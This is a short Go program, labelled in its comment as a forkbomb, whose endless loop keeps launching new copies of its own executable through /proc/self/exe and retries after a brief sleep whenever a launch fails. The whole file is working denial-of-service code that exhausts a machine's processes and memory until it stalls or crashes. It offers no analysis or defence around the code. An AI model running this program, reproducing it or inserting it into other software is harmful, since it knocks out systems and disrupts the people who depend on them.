// Forkbomb starts itself for as long as it is let.
package main

import (
	"os/exec"
	"time"
)

func main() {
	for {
		if exec.Command("/proc/self/exe").Start() != nil {
			time.Sleep(time.Millisecond)
		}
	}
}
